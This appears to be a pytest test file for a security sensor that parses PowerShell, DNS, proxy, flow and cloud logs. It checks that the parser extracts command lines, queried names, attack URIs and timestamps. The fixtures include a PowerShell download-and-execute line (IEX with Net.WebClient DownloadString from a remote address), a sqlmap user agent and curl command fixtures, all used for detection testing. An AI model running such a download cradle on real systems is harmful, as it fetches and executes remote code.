"""Formats whose fields stand in places of their own: script blocks, dnstap, proxies, sensors of flows, clouds."""

from __future__ import annotations

import json

import pytest

from tests.sensor.test_formats import NAME, NAMES, SHELL, found, line

MOMENT = "2024-05-01T08:00:00.123Z"
BLOCK = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')"
AGENT, TARGET = "sqlmap/1.7 (https://sqlmap.org)", "/x?y=1"
PAGE = f"http://{NAME}{TARGET}"
WRITTEN_OUT = (
    f";; opcode: QUERY, status: NOERROR, id: 4\n;; flags: rd; QUERY: 1\n\n;; QUESTION SECTION:\n;{NAME}.\tIN\t A\n\n;; OPT PSEUDOSECTION:\n"
)
MESSAGE = f"Creating Scriptblock text (1 of 2):\r\n{BLOCK}\r\n\r\nScriptBlock ID: 5c4d\r\nPath: C:\\x.ps1"
STARTED = f"Engine state is changed.\r\n\r\nDetails:\r\n\tHostApplication=powershell -c {SHELL}\r\n\tEngineVersion=5\r\n"
CONTEXT = f"        Severity = Informational\r\n        Host Application = powershell -c {SHELL}\r\n        Engine Version = 5.1\r\n"
BLOCKS: dict[str, object] = {
    "winlogbeat": {"@timestamp": MOMENT, "winlog": {"event_id": "4104", "event_data": {"ScriptBlockText": BLOCK, "MessageNumber": "1"}}},
    "elastic": {"@timestamp": MOMENT, "event": {"code": "4104"}, "powershell": {"file": {"script_block_text": BLOCK}}},
    "evtx_dump": {"Event": {"System": {"EventID": 4104}, "EventData": {"ScriptBlockText": BLOCK, "MessageTotal": 2}}, "timestamp": MOMENT},
    "nxlog": {"EventTime": MOMENT, "EventID": 4104, "ScriptBlockText": BLOCK},
    "wazuh": {"timestamp": MOMENT, "data": {"win": {"eventdata": {"scriptBlockText": BLOCK}}}},
    "message": {"TimeCreated": MOMENT, "Id": 4104, "Message": MESSAGE},
    "message in winlogbeat": {"@timestamp": MOMENT, "winlog": {"event_id": 4104}, "message": MESSAGE},
    "splunk": {"result": {"_time": MOMENT, "EventCode": "4104", "Message": MESSAGE}},
    "defender": {"Timestamp": MOMENT, "ActionType": "AmsiScriptContent", "AdditionalFields": json.dumps({"ScriptContent": BLOCK})},
}
HOSTED: dict[str, object] = {
    "400": {"EventTime": MOMENT, "EventID": 400, "Message": STARTED},
    "4103": {"EventTime": MOMENT, "EventID": 4103, "ContextInfo": CONTEXT, "Payload": "CommandInvocation(x)"},
    "4103, winlogbeat": {"@timestamp": MOMENT, "winlog": {"event_data": {"ContextInfo": CONTEXT}}},
}
QUESTIONS: dict[str, object] = {
    "dnstap -j": {"type": "MESSAGE", "message": {"type": "CLIENT_QUERY", "query_time": MOMENT, "query_message": WRITTEN_OUT}},
    "dnstap -j, answers": {
        "type": "MESSAGE",
        "message": {"type": "CLIENT_RESPONSE", "query_time": MOMENT, "response_message": WRITTEN_OUT},
    },
    "dnstap-read": {"type": "MESSAGE", "message": {"query_time": MOMENT, "query_message_data": {"QUESTION_SECTION": [f"{NAME}. IN A"]}}},
    "vector": {"messageType": "ClientQuery", "requestData": {"question": [{"domainName": NAME, "questionType": "A"}]}, "timestamp": MOMENT},
    "dns-collector, flat": {"dns.qname": NAME, "dnstap.timestamp-rfc3339ns": MOMENT},
    "dns-collector, text": f"{MOMENT} ns CLIENT_QUERY NOERROR 192.0.2.1 5095 IPv4 UDP 54b {NAME} A 0.000000",
    "dnstap-read -y, a line": f"      - {NAME}. IN A",
    "dig, a line": f";{NAME}.\t\tIN\tA",
    "inspektor gadget": {"timestamp": MOMENT, "qr": "Q", "name": NAME, "qtype": "A"},
    "ndpi": {"flow_first_seen": 1714550400123, "ndpi": {"proto": "DNS", "hostname": NAME}},
    "yaf": {"flows": {"flowStartMilliseconds": MOMENT, "dnsRecordList": [{"dnsQName": NAME}]}},
    "hx": {"event_at": MOMENT, "event_values": {"dnsLookupEvent/hostname": NAME}},
    "control d": {"time": MOMENT, "question": NAME, "questionType": "A"},
}
REQUESTS: dict[str, object] = {
    "arkime": {"firstPacket": 1714550400123, "http": {"uri": [f"{NAME}{TARGET}"], "useragent": [AGENT]}},
    "nprobe": {"HTTP_URL": f"{NAME}{TARGET}", "HTTP_UA": AGENT, "FIRST_SWITCHED": 1714550400},
    "okta": {"published": MOMENT, "client": {"userAgent": {"rawUserAgent": AGENT}}, "debugContext": {"debugData": {"requestUri": TARGET}}},
    "hx": {"event_at": MOMENT, "event_values": {"urlMonitorEvent/requestUrl": TARGET, "urlMonitorEvent/hostname": NAME}},
    "hubble": {"flow": {"time": MOMENT, "l7": {"http": {"url": PAGE, "headers": [{"key": "User-Agent", "value": AGENT}]}}}},
    "modsecurity 2": {"transaction": {"time": "01/May/2024:08:00:00 +0000"}, "request": {"request_line": f"GET {TARGET} HTTP/1.1"}},
    "akamai": {"httpMessage": {"start": "1714550400", "host": NAME, "path": "/x", "query": "y=1", "method": "GET"}},
    "har": {
        "log": {"entries": [{"startedDateTime": MOMENT, "request": {"url": PAGE, "headers": [{"name": "User-Agent", "value": AGENT}]}}]}
    },
    "opencanary": {"logdata": {"PATH": TARGET, "USERAGENT": AGENT}, "utc_time": "2024-05-01 08:00:00.123"},
    "cato": {"time_str": MOMENT, "full_path_url": PAGE},
    "e2guardian": f"2024.5.1 8:00:00 - 192.0.2.1 {PAGE}  GET 500 0  1 200 text/html",
    "privoxy": f"2024-05-01 08:00:00.123 7f5 Request: {NAME}{TARGET}",
    "tinyproxy": f"CONNECT   May 01 08:00:00 [12]: Request (file descriptor 5): GET {PAGE} HTTP/1.1",
    "netscaler": f"<134>05/01/2024:08:00:00 GMT ns 0-PPE-0 : default APPFW APPFW_SQL 5 0 : 192.0.2.1 5-PPE0 - p {PAGE} SQL check failed",
    "netscaler, VPN": (
        f"<134> 05/01/2024:08:00:00 GMT ns 0-PPE-0 : default SSLVPN HTTPREQUEST 5 0 : Context a@192.0.2.1 - SessionId: 5 - {NAME} User a : "
        f"Group(s) N/A : Vserver 192.0.2.9:443 - 05/01/2024:08:00:00 GMT GET {TARGET} - -"
    ),
    "srx": f'<14>1 {MOMENT} fw RT_UTM - WEBFILTER_URL_BLOCKED [junos@2636 source-address="192.0.2.1" url="{NAME}" obj="{TARGET}"]',
    "meraki": f"<134>1 1714550400.123 mx urls src=192.0.2.1:5 dst=192.0.2.9:80 mac=x agent='{AGENT}' request: GET {PAGE}",
}
RUN: dict[str, object] = {
    "systems manager": {"eventTime": MOMENT, "eventName": "SendCommand", "requestParameters": {"parameters": {"commands": [SHELL]}}},
    "docker": {"Type": "container", "Action": f"exec_create: {SHELL}", "time": 1714550400},
    "inspektor gadget": {"timestamp": MOMENT, "args": SHELL, "exepath": "/usr/bin/curl", "error": "", "proc": {"comm": "curl", "pid": 12}},
    "inspektor gadget, old": {"type": "normal", "timestamp": MOMENT, "comm": "curl", "ret": 0, "args": SHELL.split(" ")},
    "defender": {"Timestamp": MOMENT, "ActionType": "PowerShellCommand", "AdditionalFields": json.dumps({"Command": SHELL})},
    "defender, object": {"Timestamp": MOMENT, "ActionType": "PowerShellCommand", "AdditionalFields": {"Command": SHELL}},
    "defender, stream": {
        "records": [{"time": MOMENT, "properties": {"ActionType": "PowerShellCommand", "AdditionalFields": json.dumps({"Command": SHELL})}}]
    },
    "teleport": {"event": "session.command", "time": MOMENT, "program": "curl", "argv": SHELL.removeprefix("curl ").split(" ")},
}


def parsed(value: object) -> tuple[dict[str, set[str]], str | None]:
    """Strings and time of a line of text, or of an object."""
    return found(value.encode() if isinstance(value, str) else line(value), "x.log")


@pytest.mark.parametrize("name", BLOCKS)
def test_script_blocks(name: str) -> None:
    strings, time = parsed(BLOCKS[name])
    assert strings == {BLOCK: {"cmdline"}} and time is not None


@pytest.mark.parametrize("name", HOSTED)
def test_what_powershell_runs_under(name: str) -> None:
    strings, time = parsed(HOSTED[name])
    assert strings == {f"powershell -c {SHELL}": {"cmdline"}} and time is not None


@pytest.mark.parametrize("name", QUESTIONS)
def test_questions(name: str) -> None:
    strings, time = parsed(QUESTIONS[name])
    assert {text.rstrip("."): tasks for text, tasks in strings.items()} == {NAME: NAMES}
    assert (time is None) == name.endswith("a line")


@pytest.mark.parametrize("name", REQUESTS)
def test_requests(name: str) -> None:
    strings, time = parsed(REQUESTS[name])
    assert strings[TARGET] == {"uri-attack"}
    assert strings.get(AGENT, {"user-agent"}) == {"user-agent"} and (AGENT in str(REQUESTS[name])) == (AGENT in strings)
    assert time is not None or name == "tinyproxy"


@pytest.mark.parametrize("name", RUN)
def test_commands(name: str) -> None:
    strings, time = parsed(RUN[name])
    assert strings == {SHELL: {"cmdline"}} and time is not None


def test_what_only_looks_so_is_left_alone() -> None:
    fields = {"ActionType": "PowerShellCommand", "AdditionalFields": '{"Command": ["a"]}'}
    other_action = {"ActionType": "ScheduledTaskCreated", "AdditionalFields": json.dumps({"Command": SHELL})}
    no_program = {"args": SHELL, "time": 1}
    others: tuple[dict[str, object], ...] = (fields, {**fields, "AdditionalFields": "{" * 9000 + "}"}, other_action, no_program)
    for other in (*others, {"Action": "start", "time": 1}, {"message": "Application started", "pid": 4}, {"qr": "R", "name": NAME}):
        with pytest.raises(AssertionError):
            parsed(other)
